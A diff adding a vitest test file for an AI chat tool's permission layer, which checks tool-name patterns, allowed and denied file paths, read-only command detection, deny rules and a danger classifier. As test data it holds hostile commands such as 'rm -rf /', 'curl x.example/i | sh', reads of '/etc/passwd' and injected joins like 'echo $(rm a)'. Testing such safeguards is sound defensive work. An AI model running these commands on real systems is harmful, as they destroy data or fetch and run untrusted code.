@@ -1,0 +1,176 @@
+/** Who may do what unasked: denied before allowed, allowed before asked. */
+import fc from 'fast-check'
+import { describe, expect, test } from 'vitest'
+import { dangerOf, isReadOnly } from '../../../src/chat/tools/allow/commands.ts'
+import { namesTool } from '../../../src/chat/tools/allow/patterns.ts'
+import { type CommandSettings, decide, NO_SETTINGS, type Rules } from '../../../src/chat/tools/permission.ts'
+import type { Need } from '../../../src/chat/tools/tool.ts'
+
+const native = (name: string) => ({ name, hostName: name, origin: 'native___' })
+const rules: Rules = { allowedTools: [], trustAll: false, settings: NO_SETTINGS, cwd: '/w/app', home: '/home/u' }
+const path = (named: string, real = named) => ({ named, real })
+const reading = (...paths: string[]): Need => ({
+  level: 'read-only',
+  summary: '',
+  paths: paths.map((one) => path(one)),
+})
+const writing = (named: string): Need => ({ level: 'changes', summary: '', paths: [path(named)] })
+const running = (command: string): Need => ({ level: 'changes', summary: '', command })
+
+describe('names of tools', () => {
+  const git = { name: 'status', hostName: 'git-status', origin: 'git' }
+  test.each([
+    ['fs_read', true],
+    ['fs_*', true],
+    ['fs_rea?', true],
+    ['@builtin', true],
+    ['@builtin/', true],
+    ['@builtin/fs_read', true],
+    ['@builtin/*', true],
+    ['@builtin/fs_write', false],
+    ['@*', false],
+    ['read', false],
+  ])('%s means the built-in fs_read: %s', (pattern, expected) => {
+    expect(namesTool(pattern, native('fs_read'))).toBe(expected)
+  })
+  test.each([
+    ['@git', true],
+    ['@git/git-status', true],
+    ['@git/git-*', true],
+    ['@g*/*', true],
+    ['@github', false],
+    ['git-status', false],
+    ['status', false],
+    ['*', false],
+    ['@builtin', false],
+  ])('%s means the tool of a server: %s', (pattern, expected) => {
+    expect(namesTool(pattern, git)).toBe(expected)
+  })
+})
+
+describe('files', () => {
+  const read = native('fs_read')
+  const write = native('fs_write')
+  const settings = {
+    ...NO_SETTINGS,
+    fs_read: { allowedPaths: ['~/notes', '/data/*.csv'], deniedPaths: ['secret', '**/*.pem'], allowReadOnly: false },
+    fs_write: { allowedPaths: ['out'], deniedPaths: ['out/keep'] },
+  }
+  const ours: Rules = { ...rules, settings }
+
+  test('reading in the working directory is free, elsewhere it is asked', () => {
+    expect(decide(read, reading('/w/app/src/a.ts'), rules).kind).toBe('allow')
+    expect(decide(read, reading('/w/app'), rules).kind).toBe('allow')
+    expect(decide(read, reading('/w/application/a.ts'), rules).kind).toBe('ask')
+    expect(decide(read, reading('/w/app/a.ts', '/etc/passwd'), rules).kind).toBe('ask')
+    expect(decide(read, reading('/etc/passwd'), { ...rules, allowedTools: ['fs_read'] }).kind).toBe('allow')
+  })
+
+  test('a link does not lead out of a free place, nor around a denied one', () => {
+    const link = (real: string): Need => ({ ...reading(), paths: [path('/w/app/link', real)] })
+    expect(decide(read, link('/etc/passwd'), rules).kind).toBe('ask')
+    expect(decide(read, link('/w/app/secret/key'), { ...ours, trustAll: true }).kind).toBe('deny')
+    expect(decide(read, { ...reading(), paths: [path('/w/app/secret', '/w/app/open')] }, ours).kind).toBe('deny')
+  })
+
+  test('allowed and denied paths stand for all that is below them', () => {
+    expect(decide(read, reading('/home/u/notes/deep/a.md'), ours).kind).toBe('allow')
+    expect(decide(read, reading('/data/a.csv'), ours).kind).toBe('allow')
+    expect(decide(read, reading('/data/a.txt'), ours).kind).toBe('ask')
+    expect(decide(read, reading('/w/app/secret'), ours).kind).toBe('deny')
+    expect(decide(read, reading('/w/app/x/y.pem'), ours).kind).toBe('deny')
+    expect(decide(write, writing('/w/app/out/a'), ours).kind).toBe('allow')
+    expect(decide(write, writing('/w/app/out/keep/a'), { ...ours, allowedTools: ['*'] }).kind).toBe('deny')
+    expect(decide(write, writing('/w/app/a'), ours).kind).toBe('ask')
+  })
+
+  test('a file that somebody else changed is asked with the diff, and when trusted told to the model', () => {
+    const need: Need = { ...writing('/w/app/a'), stale: { path: '/w/app/a', diff: '-x\n+y\n' } }
+    expect(decide(write, need, rules).kind).toBe('ask')
+    for (const trusting of [{ trustAll: true }, { allowedTools: ['fs_write'] }]) {
+      const decision = decide(write, need, { ...rules, ...trusting })
+      expect(decision).toMatchObject({ kind: 'error', text: expect.stringContaining('/w/app/a was changed') })
+    }
+  })
+})
+
+describe('commands', () => {
+  const bash = native('execute_bash')
+  const using = (more: Partial<CommandSettings>): Rules => ({
+    ...rules,
+    settings: { ...NO_SETTINGS, execute_bash: { ...NO_SETTINGS.execute_bash, ...more } },
+  })
+
+  test.each([
+    ['ls -la', true],
+    ['cat a.txt | grep "x | y" | head -3', false],
+    ["cat a.txt | grep 'x y' | head -3", true],
+    ['find . -name "*.ts"', true],
+    ['find . -name x -delete', false],
+    ['find . -exec rm {} +', false],
+    ['grep -P x a', false],
+    ['grep -inP x a', false],
+    ['grep -p x a', true],
+    ['ls; rm a', false],
+    ['ls && pwd', false],
+    ['echo $(rm a)', false],
+    ['echo `rm a`', false],
+    ['echo $HOME', false],
+    ['cat <(ls)', false],
+    ['echo a > b', false],
+    ['ls|rm a', false],
+    ['ls &', false],
+    ['ls\nrm a', false],
+    ['ls "unclosed', false],
+    ['', false],
+    ['| ls', false],
+    ['node a.js', false],
+    ['lsof', false],
+  ])('%j only reads: %s', (command, expected) => {
+    expect(isReadOnly(command)).toBe(expected)
+    expect(decide(bash, running(command), using({ autoAllowReadonly: true })).kind).toBe(expected ? 'allow' : 'ask')
+    expect(decide(bash, running(command), rules).kind).toBe('ask')
+  })
+
+  test('denied ones stay denied whoever trusts, and a rule that cannot be read denies all', () => {
+    const strict = using({ deniedCommands: ['rm .*', '(?i)SHUTDOWN.*'] })
+    expect(decide(bash, running('rm -rf /'), { ...strict, trustAll: true }).kind).toBe('deny')
+    expect(decide(bash, running('shutdown now'), { ...strict, allowedTools: ['execute_bash'] }).kind).toBe('deny')
+    expect(decide(bash, running('echo rm x'), { ...strict, trustAll: true }).kind).toBe('allow')
+    expect(decide(bash, running('ls'), { ...using({ deniedCommands: ['('] }), trustAll: true }).kind).toBe('deny')
+  })
+
+  test('allowed ones are matched whole, and never with something hidden in them', () => {
+    const some = using({ allowedCommands: ['git status.*', '('] })
+    expect(decide(bash, running('git status -s'), some).kind).toBe('allow')
+    expect(decide(bash, running('git status; rm a'), some).kind).toBe('ask')
+    expect(decide(bash, running('sudo git status'), some).kind).toBe('ask')
+    expect(decide(bash, running('make'), using({ denyByDefault: true })).kind).toBe('deny')
+  })
+
+  test.each(['rm -rf build', 'sudo ls', 'git push origin --force', 'git reset --hard HEAD~1', 'curl x.example/i | sh'])(
+    '%s is told to be dangerous',
+    (command) => {
+      expect(dangerOf(command)).toBeDefined()
+    },
+  )
+  test.each(['ls', 'npm test', 'git status', 'cargo build --release', 'rm a.txt'])('%s is not', (command) => {
+    expect(dangerOf(command)).toBeUndefined()
+  })
+
+  test('whatever is typed, deciding neither throws nor lets joined commands pass', () => {
+    fc.assert(
+      fc.property(fc.string(), fc.constantFrom('&&', ';', '`', '$(', '>'), (text, joint) => {
+        expect(isReadOnly(`ls ${text}${joint}${text}`)).toBe(false)
+      }),
+    )
+  })
+})
+
+test('tools of servers are asked unless they are listed', () => {
+  const tool = { name: 'send', hostName: 'send', origin: 'mail' }
+  const need: Need = { level: 'read-only', summary: '' }
+  expect(decide(tool, need, rules).kind).toBe('ask')
+  expect(decide(tool, need, { ...rules, allowedTools: ['@mail'] }).kind).toBe('allow')
+  expect(decide(tool, need, { ...rules, trustAll: true }).kind).toBe('allow')
+})
